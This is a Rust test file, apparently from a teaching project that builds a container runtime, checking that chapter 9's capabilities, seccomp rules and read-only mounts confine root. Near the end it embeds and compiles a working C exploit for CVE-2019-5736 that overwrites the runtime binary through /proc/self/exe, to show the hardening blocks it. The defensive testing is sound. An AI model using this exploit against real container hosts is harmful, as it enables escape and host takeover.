@@ -1,0 +1,437 @@
+//! Chapter 9: a root that can do little harm.
+
+use std::fs;
+use std::path::Path;
+use std::process::Command;
+
+use harness::{Lab, Ran, assert_snapshot, eventually, kernel, skip};
+
+/// Docker's fourteen, as /proc/PID/status shows them.
+const DEFAULT_SET: &str = "00000000a80425fb";
+const EMPTY_SET: &str = "0000000000000000";
+
+/// A field of /proc/PID/status, which is the kernel's word on it.
+fn status(pid: i32, field: &str) -> String {
+    let text = fs::read_to_string(format!("/proc/{pid}/status")).expect("a process");
+    let line = text.lines().find_map(|line| line.strip_prefix(field)?.strip_prefix(':'));
+    line.expect("a field").trim().to_owned()
+}
+
+/// The five capability sets of a container's first process.
+fn capability_sets(pid: i32) -> [String; 5] {
+    ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"].map(|set| status(pid, set))
+}
+
+/// Makes one system call in a container: its result and errno.
+fn call(lab: &Lab, args: &str, number: libc::c_long, arguments: &str) -> Ran {
+    let code = format!("$r = syscall({number}, {arguments}); print \"$r \", $r < 0 ? $!+0 : 0");
+    let options = ["run"].into_iter().chain(args.split_whitespace());
+    let command = ["-v", "/:/host:ro", "--", "chroot", "/host", "perl", "-e", &code];
+    lab.lab(options.chain(command))
+}
+
+fn has_perl() -> bool {
+    let has = Path::new("/usr/bin/perl").exists();
+    if !has {
+        skip::skip("needs perl for system calls that no program makes");
+    }
+    has
+}
+
+/// The program, started without one of root's capabilities.
+fn without(lab: &Lab, capability: &str, args: &str) -> Ran {
+    let run = lab.program("lab");
+    let mut outer = Command::new("setpriv");
+    outer.args(["--bounding-set", &format!("-{capability}")]).arg(run.get_program());
+    outer.envs(run.get_envs().filter_map(|(key, value)| Some((key, value?))));
+    let output = outer.arg("run").args(args.split(' ')).output().expect("setpriv starts");
+    Ran {
+        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
+        code: output.status.code().unwrap_or(-1),
+    }
+}
+
+#[test]
+fn root_has_fourteen_capabilities_and_cannot_get_more() {
+    let Some(lab) = Lab::as_root() else { return };
+    let container = lab.start("chapter-09 --network none", "");
+    let expected = [EMPTY_SET, DEFAULT_SET, DEFAULT_SET, DEFAULT_SET, EMPTY_SET];
+    assert_eq!(capability_sets(container.pid), expected);
+    assert_eq!(container.finish().code, 0);
+}
+
+#[test]
+fn another_user_has_no_capability() {
+    let Some(lab) = Lab::as_root() else { return };
+    for args in ["", "--security-opt no-new-privileges=false", "--cap-add NET_ADMIN"] {
+        let container = lab.start(&format!("chapter-09 --network none -u 1234 {args}"), "");
+        let [inheritable, permitted, effective, bounding, ambient] = capability_sets(container.pid);
+        assert_eq!([inheritable, permitted, effective, ambient], [EMPTY_SET; 4], "{args}");
+        assert_ne!(bounding, EMPTY_SET);
+        assert_eq!(status(container.pid, "Uid"), "1234\t1234\t1234\t1234");
+        container.finish();
+    }
+}
+
+#[test]
+fn capabilities_are_added_and_dropped_as_docker_does() {
+    let Some(lab) = Lab::as_root() else { return };
+    for (args, expected) in [
+        ("--cap-drop ALL", EMPTY_SET),
+        ("--cap-drop all --cap-add CAP_CHOWN", "0000000000000001"),
+        ("--cap-drop chown", "00000000a80425fa"),
+        ("--cap-add NET_ADMIN", "00000000a80435fb"),
+    ] {
+        let container = lab.start(&format!("chapter-09 --network none {args}"), "");
+        let expected = [EMPTY_SET, expected, expected, expected, EMPTY_SET];
+        assert_eq!(capability_sets(container.pid), expected, "{args}");
+        container.finish();
+    }
+    let script = "chown 1 /tmp || echo refused";
+    assert_eq!(lab.sh("chapter-09 --network none --cap-drop chown", script).stdout, "refused\n");
+}
+
+#[test]
+fn a_capability_that_the_runtime_lacks_is_named_if_it_was_asked_for() {
+    let Some(lab) = Lab::as_root() else { return };
+    let ran = without(&lab, "sys_time", "chapter-09 --network none --cap-add SYS_TIME -- true");
+    assert_eq!(ran.code, 125);
+    assert_snapshot!("missing_capability", ran.stderr);
+    for args in ["--cap-add ALL", "--privileged"] {
+        let args = format!("chapter-09 --network none {args} -- grep CapEff /proc/self/status");
+        let ran = without(&lab, "sys_time", &args);
+        let set = ran.ok();
+        let set = u64::from_str_radix(set.trim_start_matches("CapEff:").trim(), 16).unwrap();
+        assert_eq!(set >> 25 & 1, 0, "SYS_TIME cannot be given");
+        assert_eq!(set >> 21 & 1, 1, "SYS_ADMIN can");
+    }
+}
+
+#[test]
+fn a_setuid_program_gains_nothing_unless_it_is_allowed_to() {
+    let Some(lab) = Lab::as_root() else { return };
+    for (args, expected) in [
+        ("", "1"),
+        ("--security-opt no-new-privileges", "1"),
+        ("--security-opt no-new-privileges:false", "0"),
+    ] {
+        let container = lab.start(&format!("chapter-09 --network none {args}"), "");
+        assert_eq!(status(container.pid, "NoNewPrivs"), expected, "{args}");
+        assert_eq!(status(container.pid, "Seccomp"), "2", "{args}");
+        container.finish();
+    }
+}
+
+#[test]
+fn system_calls_that_are_not_listed_fail() {
+    if !skip::is_root() || !has_perl() {
+        return;
+    }
+    let lab = Lab::new();
+    // With another flag that it excludes: the kernel itself has EINVAL for that.
+    let new_user = libc::CLONE_NEWUSER | libc::CLONE_FS;
+    for (name, number, arguments, errno) in [
+        ("keyctl", libc::SYS_keyctl, "0, -3, 0", libc::EPERM),
+        ("bpf", libc::SYS_bpf, "0, 0, 0", libc::EPERM),
+        ("unshare", libc::SYS_unshare, "0x4000000", libc::EPERM),
+        ("clone", libc::SYS_clone, &format!("{new_user}, 0, 0, 0, 0"), libc::EPERM),
+        ("clone3", libc::SYS_clone3, "0, 0", libc::ENOSYS),
+        ("ioctl TIOCSTI", libc::SYS_ioctl, "0, 0x5412, 0", libc::EPERM),
+        (
+            "its number with bits that are ignored",
+            libc::SYS_ioctl,
+            "0, 0x700005412, 0",
+            libc::EPERM,
+        ),
+        ("AF_VSOCK", libc::SYS_socket, "0x100000028, 1, 0", libc::EPERM),
+        ("a call that does not exist", 9999, "0", libc::EPERM),
+    ] {
+        let ran = call(&lab, "chapter-09 --network none", number, arguments);
+        assert_eq!(ran.stdout, format!("-1 {errno}"), "{name}: {}", ran.stderr);
+        let ran = call(&lab, "chapter-07 --network none", number, arguments);
+        assert_ne!(ran.stdout, format!("-1 {errno}"), "{name} in chapter 7");
+        if name == "bpf" {
+            let with = "chapter-09 --network none --cap-add SYS_ADMIN";
+            assert_ne!(call(&lab, with, number, arguments).stdout, "-1 1", "{name} with SYS_ADMIN");
+        }
+    }
+}
+
+#[test]
+fn a_profile_of_ones_own_is_dockers_format() {
+    let Some(lab) = Lab::as_root() else { return };
+    let profile = lab.state_dir().join("rules.json");
+    fs::write(
+        &profile,
+        r#"{ "defaultAction": "SCMP_ACT_ALLOW", "architectures": ["SCMP_ARCH_X86_64"], "syscalls": [
+            { "names": ["mkdir", "mkdirat", "no_such_call"], "action": "SCMP_ACT_ERRNO",
+              "errnoRet": 28, "args": [] },
+            { "names": ["kill"], "action": "SCMP_ACT_ERRNO",
+              "args": [{ "index": 1, "value": 10, "op": "SCMP_CMP_EQ" }] },
+            { "names": ["rmdir", "unlinkat"], "action": "SCMP_ACT_ERRNO",
+              "includes": { "caps": ["CAP_SYS_ADMIN"] } },
+            { "names": ["sethostname"], "action": "SCMP_ACT_ERRNO", "errnoRet": 5,
+              "excludes": { "minKernel": "2.6" } }
+        ] }"#,
+    )
+    .unwrap();
+    let args = format!("chapter-09 --network none --security-opt seccomp={}", profile.display());
+    let script = "mkdir /dir; kill -USR1 $$ || echo refused; kill -0 $$ && echo allowed; \
+                  rmdir /mnt && echo gone";
+    let ran = lab.sh(&args, script);
+    assert!(ran.stderr.contains("No space left"), "{}", ran.stderr);
+    assert_eq!(ran.stdout, "refused\nallowed\ngone\n");
+    // Under a condition on a capability.
+    let ran = lab.sh(&format!("{args} --cap-add SYS_ADMIN"), "rmdir /mnt || echo refused");
+    assert_eq!(ran.stdout, "refused\n");
+    // Whatever comes last before exec, it works without no_new_privs as well.
+    let ran = lab.sh(&format!("{args} --security-opt no-new-privileges=false"), script);
+    assert_eq!(ran.stdout, "refused\nallowed\ngone\n");
+}
+
+#[test]
+fn a_wrong_profile_is_an_error_before_anything_is_made() {
+    let Some(lab) = Lab::as_root() else { return };
+    let profile = lab.state_dir().join("rules.json");
+    fs::write(&profile, "{ \"defaultAction\": \"SCMP_ACT_PRAY\",\n \"syscalls\": [] }").unwrap();
+    let opt = format!("chapter-09 --security-opt seccomp={}", profile.display());
+    let ran = lab.sh(&opt, "true");
+    assert_eq!(ran.code, 125);
+    assert_snapshot!("wrong_profile", ran.stderr, filters => &[(r"/\S*/lab-test", "<dir>/lab-test")]);
+    let ran = lab.sh("chapter-09 --security-opt seccomp=/no/such/profile", "true");
+    assert_eq!(ran.code, 125);
+    assert!(ran.stderr.contains("/no/such/profile: no such file"), "{}", ran.stderr);
+}
+
+#[test]
+fn what_proc_and_sys_show_of_the_host_is_covered() {
+    let Some(lab) = Lab::as_root() else { return };
+    let script = "for f in /proc/kcore /proc/keys /proc/timer_list /proc/interrupts \
+                  /sys/firmware /proc/acpi /proc/scsi; do \
+                  if [ -d $f ]; then ls -A $f; elif [ -e $f ]; then head -c 1 $f; fi; done; \
+                  umount /proc/keys 2> /dev/null || echo stays";
+    assert_eq!(lab.sh("chapter-09 --network none", script).stdout, "stays\n");
+    let container = lab.start("chapter-09 --network none", "");
+    let table = fs::read_to_string(format!("/proc/{}/mountinfo", container.pid)).unwrap();
+    for path in ["/proc/keys", "/proc/kcore", "/proc/timer_list", "/sys/firmware"] {
+        let is_covered = table.lines().any(|line| line.split(' ').nth(4) == Some(path));
+        assert_eq!(is_covered, Path::new(path).exists(), "{path}");
+    }
+    container.finish();
+}
+
+#[test]
+fn the_hosts_settings_can_be_read_and_not_written() {
+    let Some(lab) = Lab::as_root() else { return };
+    // Opened for writing, which decides it; nothing is written.
+    let script = "cat /proc/sys/kernel/ostype; (: >> /proc/sys/kernel/core_pattern) && echo open";
+    assert_eq!(lab.sh("chapter-07 --network none", script).stdout, "Linux\nopen\n");
+    let ran = lab.sh("chapter-09 --network none", script);
+    assert_eq!(ran.stdout, "Linux\n");
+    assert!(ran.stderr.contains("ead-only file system"), "{}", ran.stderr);
+}
+
+/// Opens devices of the host, by nodes it makes; prints those that it could open.
+const OPEN_DEVICES: &str = "for d in 'b 254 0' 'b 8 0' 'b 7 0' 'c 1 11' 'c 10 200'; do \
+    mknod /tmp/node $d && (exec 3< /tmp/node) 2> /dev/null && echo $d; rm /tmp/node; done; \
+    mknod /tmp/null c 1 3 && echo x > /tmp/null && head -c 2 /dev/urandom | wc -c";
+
+#[test]
+fn a_device_node_can_be_made_and_not_opened() {
+    let Some(lab) = Lab::as_root() else { return };
+    let before = lab.sh("chapter-07 --network none", OPEN_DEVICES).ok();
+    if before.lines().count() < 2 {
+        return skip::skip("no device to open here, not even without rules");
+    }
+    assert_eq!(lab.sh("chapter-09 --network none", OPEN_DEVICES).ok().trim(), "2");
+    assert_eq!(lab.sh("chapter-09 --network none --privileged", OPEN_DEVICES).ok(), before);
+}
+
+#[test]
+fn the_device_rules_hold_on_cgroup_v2_as_well() {
+    if !skip::is_root() {
+        return;
+    }
+    if !kernel::mounts().contains(" - cgroup2 ") {
+        return skip::skip("needs cgroup v2");
+    }
+    let lab = Lab::new();
+    let before = lab.sh("chapter-07 --network none", OPEN_DEVICES).ok();
+    if before.lines().count() < 2 {
+        return skip::skip("no device to open here, not even without rules");
+    }
+    // A host without v1, in a mount namespace that ends with the test.
+    let run = lab.program("lab");
+    let mut outer = Command::new("unshare");
+    outer.args(["--mount", "--propagation", "private", "sh", "-c"]);
+    outer.arg("awk '$3 == \"cgroup\" { print $2 }' /proc/mounts | xargs -r umount; exec \"$@\"");
+    outer.arg("sh").arg(run.get_program());
+    outer.envs(run.get_envs().filter_map(|(key, value)| Some((key, value?))));
+    let output = outer
+        .args(["run", "chapter-09", "--network", "none", "--", "sh", "-c"])
+        .arg(format!("{OPEN_DEVICES}; ls -d /sys/fs/cgroup/devices"))
+        .output()
+        .expect("unshare starts");
+    assert_eq!(String::from_utf8_lossy(&output.stdout).trim(), "2");
+}
+
+#[test]
+fn a_ulimit_has_a_soft_and_a_hard_part() {
+    let Some(lab) = Lab::as_root() else { return };
+    let args = "chapter-09 --network none --ulimit nofile=100:200 --ulimit core=0";
+    let container = lab.start(args, "");
+    let limits = fs::read_to_string(format!("/proc/{}/limits", container.pid)).unwrap();
+    let limit = |name: &str| {
+        let line = limits.lines().find_map(|line| line.strip_prefix(name)).expect("a limit");
+        line.split_whitespace().take(2).map(str::to_owned).collect::<Vec<_>>()
+    };
+    assert_eq!(limit("Max open files"), ["100", "200"]);
+    assert_eq!(limit("Max core file size"), ["0", "0"]);
+    container.finish();
+    // Raised up to the hard limit by the container itself, and no further.
+    let script = "ulimit -n 200 && ulimit -n 201 2> /dev/null || echo refused";
+    assert_eq!(lab.sh(args, script).stdout, "refused\n");
+}
+
+#[test]
+fn a_hard_limit_cannot_be_raised_without_the_capability() {
+    let Some(lab) = Lab::as_root() else { return };
+    let args = "chapter-09 --network none --ulimit nofile=1048577 -- true";
+    let ran = without(&lab, "sys_resource", args);
+    assert_eq!(ran.code, 125);
+    assert_snapshot!("raised_limit", ran.stderr, filters => &[(r"it is \d+ here", "it is <number> here")]);
+}
+
+#[test]
+fn the_callers_keys_stay_with_the_caller() {
+    if !skip::is_root() || !has_perl() {
+        return;
+    }
+    let lab = Lab::new();
+    // KEYCTL_GET_KEYRING_ID of the session keyring, which is made if there is none.
+    let session = |args: &str| call(&lab, args, libc::SYS_keyctl, "0, -3, 0").ok();
+    let unconfined = "chapter-09 --network none --security-opt seccomp=unconfined";
+    let (earlier, now) = (session("chapter-07 --network none"), session(unconfined));
+    assert_eq!(earlier, session("chapter-07 --network none"), "shared with the caller");
+    assert_ne!(earlier, now);
+    assert_ne!(now, session(unconfined));
+}
+
+#[test]
+fn a_privileged_container_has_none_of_it() {
+    let Some(lab) = Lab::as_root() else { return };
+    let container = lab.start("chapter-09 --network none --privileged", "");
+    let [inheritable, permitted, effective, bounding, ambient] = capability_sets(container.pid);
+    let ours = status(std::process::id() as i32, "CapPrm");
+    assert_eq!([permitted, effective, bounding], [ours.clone(), ours.clone(), ours]);
+    assert_eq!([inheritable, ambient], [EMPTY_SET; 2]);
+    assert_eq!(status(container.pid, "Seccomp"), "0");
+    assert_eq!(status(container.pid, "NoNewPrivs"), "0");
+    container.finish();
+    let script = "(: >> /proc/sys/kernel/core_pattern) && mount -t tmpfs none /mnt && echo mounted";
+    assert_eq!(lab.sh("chapter-09 --network none --privileged", script).ok(), "mounted\n");
+}
+
+#[test]
+fn the_init_is_confined_like_the_command_and_shows_nothing_of_the_host() {
+    let Some(lab) = Lab::as_root() else { return };
+    let container = lab.start("chapter-09 --network none --init -u 1234", "echo pid $$");
+    assert_eq!(container.said, "pid 2\nready\n");
+    assert_eq!(status(container.pid, "Name"), "lab:init");
+    assert_eq!(status(container.pid, "Uid"), "1234\t1234\t1234\t1234");
+    assert_eq!(status(container.pid, "CapPrm"), EMPTY_SET);
+    assert_eq!(status(container.pid, "Seccomp"), "2");
+    container.finish();
+    // Root and the same set of capabilities are not enough to look into it.
+    let script = "for f in exe environ root mem; do (exec 3< /proc/1/$f) 2> /dev/null && echo $f; \
+                  done; readlink /proc/1/exe; true";
+    assert_eq!(lab.sh("chapter-09 --network none --init", script).ok(), "");
+}
+
+/// CVE-2019-5736. Where the image should have the loader of dynamic programs, it has
+/// this: executed in the runtime's place, it opens the runtime's file and becomes
+/// `/attack`, a copy of itself, which writes as soon as nobody executes the file.
+const ATTACK: &str = r#"
+static long call(long number, long a, long b, long c) {
+    long result;
+    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c)
+                     : "rcx", "r11", "memory");
+    return result;
+}
+enum { WRITE = 1, OPEN = 2, NANOSLEEP = 35, EXECVE = 59, EXIT = 60, FCNTL = 72, PRCTL = 157 };
+enum { READ_ONLY = 0, WRITE_ONLY = 1, CREATE = 0100 | WRITE_ONLY, BUSY = -26, ROFS = -30 };
+
+void _start(void) {
+    char *none[1]; none[0] = 0;
+    if (call(FCNTL, 3, 1, 0) < 0) {
+        call(OPEN, (long)"/proc/self/exe", READ_ONLY, 0);  /* becomes descriptor 3 */
+        call(PRCTL, 1, 0, 0);                              /* to outlive the runtime */
+        call(EXECVE, (long)"/attack", (long)none, (long)none);
+    }
+    call(OPEN, (long)"/share/ready", CREATE, 0644);
+    long fd = BUSY;
+    for (int tries = 0; fd == BUSY && tries < 2000; tries++) {
+        long pause[2]; pause[0] = 0; pause[1] = 10000000;
+        call(NANOSLEEP, (long)pause, 0, 0);
+        fd = call(OPEN, (long)"/proc/self/fd/3", WRITE_ONLY, 0);
+    }
+    if (fd >= 0) call(WRITE, fd, (long)"overwritten", 11);
+    call(OPEN, (long)(fd >= 0 ? "/share/overwritten" :
+                      fd == ROFS ? "/share/read-only" : "/share/other"), CREATE, 0644);
+    call(EXIT, 0, 0, 0);
+}
+"#;
+
+/// What becomes of the attack, and whether the runtime's program is still what it was.
+fn attack_the_runtime(lab: &Lab, chapter: &str) -> (&'static str, bool) {
+    let dir = lab.state_dir().join(format!("attack-{chapter}"));
+    let (root, share, victim) = (dir.join("root"), dir.join("share"), dir.join("lab"));
+    fs::create_dir_all(&share).unwrap();
+    let copied = Command::new("cp").arg("-a").arg(lab.image()).arg(&root).status().unwrap();
+    assert!(copied.success());
+    fs::create_dir_all(root.join("lib64")).unwrap();
+    let (source, loader) = (dir.join("attack.c"), root.join("lib64/ld-linux-x86-64.so.2"));
+    fs::write(&source, ATTACK).unwrap();
+    let _ = fs::remove_file(&loader);
+    let compiled = Command::new("cc")
+        .args(["-nostdlib", "-static-pie", "-fPIE", "-O1", "-o"])
+        .args([&loader, &source])
+        .status();
+    assert!(compiled.expect("a C compiler, as cargo needs one").success());
+    fs::copy(&loader, root.join("attack")).unwrap();
+    let run = lab.program("lab");
+    fs::copy(run.get_program(), &victim).unwrap();
+    let original = fs::read(&victim).unwrap();
+
+    let mut outer = Command::new(&victim);
+    outer.envs(run.get_envs().filter_map(|(key, value)| Some((key, value?))));
+    outer.args(["run", chapter, "--network", "none", "--view", "none", "--rootfs"]).arg(&root);
+    outer.arg("-v").arg(format!("{}:/share", share.display()));
+    let mut runtime = outer.args(["--", "/proc/self/exe"]).spawn().expect("it starts");
+    eventually("the attack begins", || share.join("ready").exists());
+    let pid = kernel::child_of(runtime.id() as i32).expect("the container");
+    runtime.kill().unwrap();
+    runtime.wait().unwrap();
+    let verdict = kernel::wait_for("the attack ends", || {
+        let names = ["overwritten", "read-only", "other"];
+        names.into_iter().find(|name| share.join(name).exists())
+    });
+    eventually("the container ends", || !kernel::is_alive(pid));
+    lab.lab(["clean"]).ok();
+    (verdict, fs::read(&victim).unwrap() == original)
+}
+
+#[test]
+fn the_container_cannot_overwrite_the_runtime() {
+    let Some(lab) = Lab::as_root() else { return };
+    let program = lab.program("lab");
+    let mut loader = Command::new("grep");
+    loader.args(["-c", "-a", "/lib64/ld-linux-x86-64.so.2"]);
+    let loader = loader.arg(program.get_program()).output().expect("grep starts");
+    if !cfg!(target_arch = "x86_64") || !loader.status.success() {
+        return skip::skip("the attack is for programs with x86_64's loader");
+    }
+    assert_eq!(attack_the_runtime(&lab, "chapter-07"), ("overwritten", false));
+    assert_eq!(attack_the_runtime(&lab, "chapter-09"), ("read-only", true));
+}
